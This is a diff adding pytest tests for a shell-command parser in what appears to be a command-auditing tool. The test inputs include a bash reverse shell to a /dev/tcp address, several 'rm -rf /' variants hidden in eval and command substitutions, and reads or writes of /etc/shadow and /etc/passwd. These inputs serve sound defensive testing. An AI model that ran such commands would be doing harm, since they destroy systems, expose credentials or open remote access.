@@ -0,0 +1,153 @@
+"""Tests for the shared shell-command parser."""
+
+from __future__ import annotations
+
+import shlex
+
+import pytest
+
+from chaos_auditor.scenarios.command_parser import (
+    MAX_NESTING_DEPTH,
+    ParsedCommand,
+    Redirection,
+    as_parsed,
+    parse_command,
+)
+
+
+class TestParseCommand:
+    """Test pipelines, argv and redirections."""
+
+    def test_simple_argv(self) -> None:
+        parsed = parse_command("ls -la /tmp")
+        (cmd,) = parsed.commands()
+        assert cmd.argv == ("ls", "-la", "/tmp")
+        assert cmd.flags == {"-la", "-l", "-a"}
+        assert cmd.args == ("/tmp",)
+
+    def test_quotes_are_removed(self) -> None:
+        (cmd,) = parse_command("echo 'a b' \"c d\"").commands()
+        assert cmd.argv == ("echo", "a b", "c d")
+
+    def test_pipelines_and_lists(self) -> None:
+        parsed = parse_command("cat a | grep b && ls; whoami")
+        assert [[c.executable for c in p.commands] for p in parsed.pipelines] == [
+            ["cat", "grep"],
+            ["ls"],
+            ["whoami"],
+        ]
+
+    def test_operators_without_spaces(self) -> None:
+        parsed = parse_command("ls;id|wc")
+        assert [c.executable for c in parsed.commands()] == ["ls", "id", "wc"]
+
+    def test_redirections(self) -> None:
+        (cmd,) = parse_command("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1").commands()
+        assert cmd.argv == ("bash", "-i")
+        assert cmd.redirections == (
+            Redirection(">&", "/dev/tcp/1.2.3.4/4444"),
+            Redirection(">&", "1", "0"),
+        )
+        assert [r.writes for r in cmd.redirections] == [True, False]
+
+    def test_bare_redirection(self) -> None:
+        (cmd,) = parse_command("> /etc/passwd").commands()
+        assert cmd.executable == ""
+        assert cmd.redirections == (Redirection(">", "/etc/passwd"),)
+
+    def test_assignments(self) -> None:
+        (cmd,) = parse_command("FOO=1 BAR=2 make").commands()
+        assert cmd.assignments == ("FOO=1", "BAR=2")
+        assert cmd.argv == ("make",)
+
+    def test_executable_is_basename(self) -> None:
+        (cmd,) = parse_command("/usr/bin/python3.12 x.py").commands()
+        assert cmd.executable == "python3.12"
+        assert cmd.interpreter == "python"
+
+    @pytest.mark.parametrize(
+        ("command", "args"),
+        [
+            ("cat /etc//shadow", ("/etc/shadow",)),
+            ("cat /etc/./shadow", ("/etc/shadow",)),
+            ("rm -rf /etc/", ("/etc",)),
+            ("rm -rf //", ("/",)),
+            ("cat notes//a.txt", ("notes//a.txt",)),
+        ],
+    )
+    def test_path_arguments_normalized(self, command: str, args: tuple[str, ...]) -> None:
+        (cmd,) = parse_command(command).commands()
+        assert cmd.args == args
+
+    def test_input_redirection_without_spaces(self) -> None:
+        (cmd,) = parse_command("cat</etc//shadow").commands()
+        assert cmd.argv == ("cat",)
+        assert cmd.redirections == (Redirection("<", "/etc//shadow"),)
+        assert cmd.redirections[0].path == "/etc/shadow"
+
+    def test_unbalanced_quotes(self) -> None:
+        parsed = parse_command("echo 'unterminated")
+        assert not parsed.well_formed
+        assert [c.executable for c in parsed.commands()] == ["echo"]
+
+
+class TestNesting:
+    """Test wrappers and nested command strings."""
+
+    @pytest.mark.parametrize(
+        ("command", "inner"),
+        [
+            ("sudo -u root rm x", "rm"),
+            ("env A=1 -i rm x", "rm"),
+            ("timeout -s KILL 5 rm x", "rm"),
+            ("xargs -n 1 rm", "rm"),
+            ("nohup nice -n 5 rm x", "rm"),
+        ],
+    )
+    def test_wrapped(self, command: str, inner: str) -> None:
+        executables = [c.executable for c in parse_command(command).all_commands]
+        assert executables[-1] == inner
+
+    def test_shell_c_and_eval(self) -> None:
+        parsed = parse_command("""sudo bash -c "eval 'rm -rf /'" """)
+        assert [c.executable for c in parsed.all_commands] == ["sudo", "bash", "eval", "rm"]
+        assert [p.raw for p in parsed.walk()] == [
+            """sudo bash -c "eval 'rm -rf /'" """,
+            "eval 'rm -rf /'",
+            "rm -rf /",
+        ]
+
+    @pytest.mark.parametrize(
+        "command",
+        ["echo `rm -rf /`", "echo $(rm -rf /)", 'echo "$(rm -rf /)"', "x=`rm -rf /` true"],
+    )
+    def test_substitutions(self, command: str) -> None:
+        assert "rm" in [c.executable for c in parse_command(command).all_commands]
+
+    def test_backtick_is_an_operator(self) -> None:
+        parsed = parse_command("echo a`id`b")
+        assert [c.argv for c in parsed.commands()] == [("echo", "a"), ("id",), ("b",)]
+
+    def test_quoted_substitution_is_nested(self) -> None:
+        parsed = parse_command('echo "x $(id) `whoami`"')
+        assert [p.raw for p in parsed.walk()] == ['echo "x $(id) `whoami`"', "id", "whoami"]
+
+    def test_depth_cap(self) -> None:
+        command = "id"
+        for _ in range(MAX_NESTING_DEPTH + 2):
+            command = f"sh -c {shlex.quote(command)}"
+        parsed = parse_command(command)
+        assert parsed.truncated
+        assert len(list(parsed.walk())) == MAX_NESTING_DEPTH + 1
+
+
+class TestCaching:
+    """Test that parsing happens once per command."""
+
+    def test_same_object_returned(self) -> None:
+        assert parse_command("ls -la") is parse_command("ls -la")
+
+    def test_as_parsed_passes_tree_through(self) -> None:
+        parsed = parse_command("ls")
+        assert as_parsed(parsed) is parsed
+        assert isinstance(as_parsed("ls"), ParsedCommand)